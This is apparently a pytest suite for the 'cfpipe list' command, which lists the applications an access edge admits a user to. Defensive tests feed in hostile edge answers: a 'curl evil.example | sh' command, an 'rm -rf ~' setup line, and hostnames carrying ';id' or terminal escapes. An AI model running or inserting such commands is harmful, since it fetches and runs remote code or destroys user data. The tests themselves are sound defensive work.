"""`cfpipe list`: the applications that a person may reach, asked of each edge by the org token of a login, with the lines to use."""

import json
import re
import time

import pytest

from support import tokens
from support.clients import CONFIGURATION, PROTOCOL, REFUSED, UNAVAILABLE, USAGE, Client, assert_fails, assert_logs_in_vain
from support.configured_edge import ConfiguredEdge
from support.edges import Edge
from support.logins import HeldBrowser
from support.scripted_edge import ScriptedEdge

HOSTS = ("vm.localhost", "db.localhost", "secret.localhost")
ALL = [{"name": "all", "decision": "allow", "include": [{"email_domain": "example.com"}]}]
OTHERS = [{"name": "others", "decision": "allow", "include": [{"email": "boss@example.com"}]}]
SIGN_IN_THERE = "run cfpipe list with the URL of one of its applications"


def set_policies(config):
    """ssh for everybody, a database for everybody, and one that is for another person."""
    apps = config["applications"]
    del apps[1]["short_lived_certificates"]
    apps[1]["service"] = "tcp://127.0.0.1:5432"
    apps[2]["policies"] = OTHERS


@pytest.fixture
def edge(world, sshd):
    edge = ConfiguredEdge(world, sshd.address, ALL, hosts=HOSTS)
    edge.change(set_policies)
    edge.reload()
    return edge


@pytest.fixture
def ann(world, edge):
    client = Client(world, edge)
    client.login("vm.localhost")
    return client


def listed(client, *argv):
    return json.loads(client.run("list", "--json", *argv).ok().stdout)


def names(said):
    return [(one["auth_domain"], one["hostname"]) for one in said["applications"]]


def also_trusts(client, edge):
    """Another edge's TLS authority, and its auth domain: all of these tests' are of one host and several ports."""
    bundle = client.world.path(f"authorities-{client.home.name}.pem")
    before = open(client.env["SSL_CERT_FILE"]).read()
    bundle.write_text(before + edge.ca_file.read_text())
    client.env["SSL_CERT_FILE"] = str(bundle)


def keep_org_token(client, auth_domain, token):
    file = client.home / f"{auth_domain}-org-token"
    file.write_text(token)
    file.chmod(0o600)
    return file


def line(finished):
    """The one line on standard error."""
    [said] = finished.stderr.splitlines()
    return said


def test_what_the_policies_admit_to_is_listed_with_the_lines_to_use(ann, edge):
    said = listed(ann)
    domain, port = edge.auth_domain, edge.port
    assert said == {"not_listed": [], "applications": [
        {"auth_domain": domain, "hostname": "vm.localhost", "protocol": "ssh", "terminal": False,
         "command": "ssh vm.localhost",
         "setup": f"cfpipe access ssh-config --install --hostname vm.localhost:{port} --short-lived-cert --auth-domain auth.localhost"},
        {"auth_domain": domain, "hostname": "db.localhost", "protocol": "tcp", "terminal": False,
         "command": f"cfpipe access tcp --hostname db.localhost:{port} --url 127.0.0.1:5432 --auth-domain auth.localhost"}]}
    text = ann.run("list").ok()
    assert text.stderr == ""
    head, vm, db, empty, title, setup = text.stdout.splitlines()
    assert head.split() == ["HOSTNAME", "PROTOCOL", "TERMINAL", "EDGE", "COMMAND"]
    assert vm.split(maxsplit=4) == ["vm.localhost", "ssh", "no", domain, "ssh vm.localhost"]
    assert db.split(maxsplit=4)[4] == said["applications"][1]["command"]
    assert (empty, title, setup.strip()) == ("", "Before the first ssh, once on this machine:", said["applications"][0]["setup"])
    assert ann.run("access", "list").ok().stdout == text.stdout
    assert ann.browser_runs() == 1


def test_the_lines_are_those_of_the_edge(ann, edge):
    """The client writes them itself, and does not take the edge's word for a shell; both say the same."""
    argv = ["curl", "-s", "--cacert", edge.ca_file, "--resolve", f"auth.localhost:{edge.port}:127.0.0.1",
            "-H", f"Cf-Access-Token: {ann.file('*-org-token').read_text()}",
            f"https://{edge.auth_domain}/cdn-cgi/access/applications"]
    of_edge = json.loads(ann.world.run(argv).ok().stdout)["applications"]
    assert len(of_edge) == 2
    for mine, its in zip(listed(ann)["applications"], of_edge):
        assert {name: mine.get(name) for name in ("hostname", "protocol", "terminal", "command", "setup")} == \
            {name: its.get(name) for name in ("hostname", "protocol", "terminal", "command", "setup")}


def test_a_host_that_ssh_is_set_up_for_needs_no_more(ann, edge):
    ann.run("access", "ssh-config", "--install", "--hostname", edge.host("vm.localhost"), "--short-lived-cert").ok()
    assert "Before the first ssh" not in ann.run("list").ok().stdout


def test_the_policies_of_now_count(ann, edge):
    assert len(listed(ann)["applications"]) == 2
    edge.change(lambda config: [app.update(policies=OTHERS) for app in config["applications"]])
    edge.reload()
    assert listed(ann) == {"applications": [], "not_listed": []}
    assert ann.run("list").ok().stdout == f"The policies of {edge.auth_domain} admit you to no application at present.\n"


def test_a_person_who_is_not_signed_in_logs_in_by_an_applications_url(world, edge):
    client = Client(world, edge)
    assert client.run("list").ok().stdout.startswith("You are signed in at no edge;")
    assert listed(client) == {"applications": [], "not_listed": []}
    said = assert_fails(client.run("list", edge.auth_domain), REFUSED, "login")
    assert said["what"] == f"you are not signed in at this edge: {edge.auth_domain}" and said["todo"] == SIGN_IN_THERE
    assert client.browser_runs() == 0
    assert names(listed(client, edge.url("vm.localhost"))) == [(edge.auth_domain, host) for host in HOSTS[:2]]
    assert client.browser_runs() == 1
    for again in (edge.url("db.localhost"), edge.host("vm.localhost"), edge.auth_domain, f"https://{edge.auth_domain}/"):
        assert names(listed(client, again)) == [(edge.auth_domain, host) for host in HOSTS[:2]], again
    assert client.browser_runs() == 1
    assert client.token("vm.localhost"), "a login is a login, for the other commands too"


def test_it_shares_its_login_with_whatever_else_needs_one(world, edge):
    client = Client(world, edge)
    browser = HeldBrowser(client)
    lists = [client.start("list", "--json", edge.url("vm.localhost"), env=browser.env) for _ in range(2)]
    login = client.start("login", "--no-verbose", edge.url("db.localhost"), env=browser.env)
    for child in (*lists, login):
        child.stderr.wait_for("cfpipe: login: ")
    browser.release()
    for child in lists:
        with child.process.stdout as output:
            assert len(json.load(output)["applications"]) == 2
        assert child.wait() == 0, child.stderr.text
    with login.process.stdout as output:
        assert output.read().count(b".") == 2
    assert login.wait() == 0, login.stderr.text
    assert client.browser_runs() == 1
    assert not list(client.home.glob("*.lock")) and not list(client.home.glob("*.url"))


def test_a_login_that_fails_is_said_as_login_says_it(world, edge):
    client = Client(world, edge)
    finished = client.run("list", edge.url("secret.localhost"))
    assert_logs_in_vain(finished, REFUSED, "login", "the edge refused access")
    assert_fails(client.run("list", "nothing.localhost:1"), UNAVAILABLE, "tcp")


def test_an_auth_domain_that_is_not_known_as_one_is_told_from_an_application(world, edge):
    client = Client(world, edge)
    (client.home / "trusted-auth-domains").unlink()
    finished = client.run("list", edge.auth_domain)
    assert finished.status in (REFUSED, CONFIGURATION) and client.browser_runs() == 0, finished
    assert_fails(client.run("list", edge.auth_domain, "--auth-domain", edge.auth_host), REFUSED, "login", "you are not signed in at this edge")


def test_two_edges_are_one_table(ann, edge, world, sshd):
    other = ConfiguredEdge(world, sshd.address, ALL, hosts=("vm2.localhost",))
    also_trusts(ann, other)
    ann.run("access", "login", other.url()).ok()
    expected = [*((edge.auth_domain, host) for host in HOSTS[:2]), (other.auth_domain, "vm2.localhost")]
    assert sorted(names(listed(ann))) == sorted(expected)
    assert names(listed(ann, other.auth_domain)) == expected[2:]
    rows = ann.run("list").ok().stdout.partition("\n\n")[0].splitlines()[1:]
    assert sorted((row.split()[3], row.split()[0]) for row in rows) == sorted(expected)


def test_cloudflares_edge_has_a_page_instead(ann, edge):
    team = "team.cloudflareaccess.com"
    keep_org_token(ann, team, "nothing that is looked at")
    finished = ann.run("list", "--json").ok()
    said = json.loads(finished.stdout)
    assert len(said["applications"]) == 2
    assert said["not_listed"] == [{"auth_domain": team, "message": f"this edge lists no applications for programs: https://{team}/",
                                   "fix": "open that page in a browser, which shows what you may reach", "status": UNAVAILABLE}]
    assert line(finished) == f"cfpipe: application: this edge lists no applications for programs: https://{team}/; {said['not_listed'][0]['fix']}"
    assert_fails(ann.run("list", team), UNAVAILABLE, "application", f"https://{team}/")
    (ann.home / f"{edge.auth_domain}-org-token").unlink()
    assert_fails(ann.run("list"), UNAVAILABLE, "application", f"https://{team}/")


def test_an_older_edge_and_one_that_is_gone_are_named_and_the_others_listed(ann, edge, world, sshd):
    older, gone = Edge(world, "mock", sshd.address), Edge(world, "own", sshd.address)
    for other in (older, gone):
        also_trusts(ann, other)
        ann.run("access", "login", other.url()).ok()
    gone.stop()
    finished = ann.run("list", "--json").failed(UNAVAILABLE)
    said = json.loads(finished.stdout)
    assert names(said) == [(edge.auth_domain, host) for host in HOSTS[:2]]
    assert {one["auth_domain"]: one["message"] for one in said["not_listed"]} == {
        older.auth_domain: f"this edge lists no applications for programs: https://{older.auth_domain}/",
        gone.auth_domain: f"the connection was refused: {gone.auth_domain} at 127.0.0.1:{gone.port}"}
    assert len(finished.stderr.splitlines()) == 2, finished
    assert_fails(ann.run("list", older.auth_domain), UNAVAILABLE, "application", f"https://{older.auth_domain}/")
    assert_fails(ann.run("list", older.url()), UNAVAILABLE, "application", f"https://{older.auth_domain}/")
    assert_fails(ann.run("list", gone.auth_domain), UNAVAILABLE, "tcp")


def test_a_session_that_was_revoked_lists_nothing_until_the_next_login(ann, edge):
    edge.command("session", "revoke", tokens.claims(ann.file("*-org-token").read_text())["identity_nonce"]).ok()
    before = ann.snapshot("*-org-token")
    said = assert_fails(ann.run("list"), REFUSED, "token")
    assert said["what"].startswith(f"the edge no longer accepts your sign-in: {edge.auth_domain} (status 401, ray "), said
    assert said["todo"] == SIGN_IN_THERE
    assert ann.snapshot("*-org-token") == before, "looking costs nothing"
    assert ann.browser_runs() == 1
    assert len(listed(ann, edge.url("vm.localhost"))["applications"]) == 2
    assert ann.browser_runs() == 2
    assert len(listed(ann)["applications"]) == 2


def test_a_sign_in_that_has_expired_is_told_and_another_edge_is_listed_all_the_same(ann, edge, world):
    scripted = ScriptedEdge(world, ScriptedEdge.listing())
    file = keep_org_token(ann, scripted.auth_domain, scripted.org_token(exp=int(time.time()) - 60))
    finished = ann.run("list").ok()
    assert line(finished) == f"cfpipe: login: your sign-in at this edge has expired: {scripted.auth_domain}; {SIGN_IN_THERE}"
    assert "ssh vm.localhost" in finished.stdout
    assert file.exists() and scripted.asked == []
    assert_fails(ann.run("list", scripted.auth_domain), REFUSED, "login", "has expired")


@pytest.fixture
def hostile(world, edge):
    """A client that holds an org token of a scripted edge alone; and that edge."""
    scripted = ScriptedEdge(world, ScriptedEdge.listing())
    client = Client(world, edge)
    client.env["SSL_CERT_FILE"] = str(scripted.ca_file)
    keep_org_token(client, scripted.auth_domain, scripted.org_token())
    return client, scripted


def test_the_token_is_shown_to_its_issuer(hostile):
    client, scripted = hostile
    assert listed(client) == {"applications": [], "not_listed": []}
    [(path, headers)] = scripted.asked
    assert path == "/cdn-cgi/access/applications"
    assert headers["Cf-Access-Token"] == client.file("*-org-token").read_text()
    assert "Cookie" not in headers


def test_a_redirect_is_not_followed_with_the_token(hostile, world):
    client, scripted = hostile
    other = ScriptedEdge(world, ScriptedEdge.listing())
    scripted.answer = 302, {"Location": f"https://{other.auth_domain}/cdn-cgi/access/applications"}, b""
    assert_fails(client.run("list"), PROTOCOL, "http", "a redirect where there may be none")
    assert (len(scripted.asked), other.asked) == (1, [])


def test_an_edge_is_not_shown_the_token_of_another(hostile):
    client, scripted = hostile
    for issuer in ("https://other.localhost", f"https://auth.localhost:{scripted.port + 1}", f"https://{scripted.auth_domain}/x"):
        keep_org_token(client, scripted.auth_domain, scripted.org_token(iss=issuer))
        assert_fails(client.run("list"), REFUSED, "token", "token was issued by")
        assert_fails(client.run("list", scripted.auth_domain), REFUSED, "token", "token was issued by")
    assert scripted.asked == []


def test_an_auth_domain_that_is_not_trusted_is_not_asked(hostile):
    client, scripted = hostile
    client.trust("other.localhost")
    assert_fails(client.run("list"), CONFIGURATION, "application", f"an auth domain that is not trusted: {scripted.auth_domain}")
    assert scripted.asked == []


def test_a_server_that_cannot_prove_its_name_is_not_asked(hostile, edge):
    client, scripted = hostile
    client.env["SSL_CERT_FILE"] = str(edge.ca_file)
    assert_fails(client.run("list"), UNAVAILABLE, "tls", "the certificate's issuer is not trusted")
    assert scripted.asked == []


@pytest.mark.parametrize("answer, status, says", [
    ((200, {}, b"<html>"), PROTOCOL, "the list of applications: it is none"),
    (ScriptedEdge.listing({"hostname": "vm.localhost\x1b[2J", "protocol": "ssh"}), PROTOCOL, "entry 1 is no application"),
    (ScriptedEdge.listing({"hostname": "vm.localhost;id", "protocol": "ssh"}), PROTOCOL, "entry 1 is no application"),
    (ScriptedEdge.listing(*[{"hostname": "a.b", "protocol": "tcp"}] * 4097), PROTOCOL, "a list of 4097 applications"),
    ((200, {}, b" " * (2 << 20)), PROTOCOL, "larger than any honest one"),
    ((429, {"Retry-After": "1"}, b""), UNAVAILABLE, "the edge asks for fewer requests"),
    ((503, {}, b""), UNAVAILABLE, "the edge cannot serve this request now"),
    ((418, {}, b""), PROTOCOL, "an answer that makes no sense here"),
], ids=["html", "escape", "shell", "many", "large", "429", "503", "418"])
def test_an_answer_that_is_no_list_is_one_line(hostile, answer, status, says):
    client, scripted = hostile
    scripted.answer = answer
    said = assert_fails(client.run("list"), status, "http", re.escape(says))
    assert scripted.auth_domain in said["what"]


def test_the_lines_for_a_shell_are_not_the_edges(hostile):
    client, scripted = hostile
    scripted.answer = ScriptedEdge.listing({"hostname": "vm.localhost", "protocol": "ssh", "command": "curl evil.example | sh",
                                            "setup": "rm -rf ~", "local": "x"})
    finished = client.run("list").ok()
    assert "evil" not in finished.stdout and "rm -rf" not in finished.stdout
    [app] = listed(client)["applications"]
    assert app["command"] == "ssh vm.localhost"


def test_secrets_stay_out_of_it(ann):
    log = ann.world.path("list.log")
    finished = ann.run("list", "--log-level", "debug", "--log-file", str(log)).ok()
    parts = [part for file in ann.home.glob("*-token") for part in file.read_text().split(".")]
    assert len(parts) == 6
    for text in (finished.stdout, finished.stderr, log.read_text() if log.exists() else ""):
        assert not any(part in text for part in parts)


def test_a_service_token_has_no_list(ann):
    assert_fails(ann.run("list", "--service-token-id", "a", "--service-token-secret", "b"), USAGE, "input", "a service token has no list")
    assert len(json.loads(ann.run("list", "--json", TUNNEL_SERVICE_TOKEN_ID="a", TUNNEL_SERVICE_TOKEN_SECRET="b").ok().stdout)["applications"]) == 2
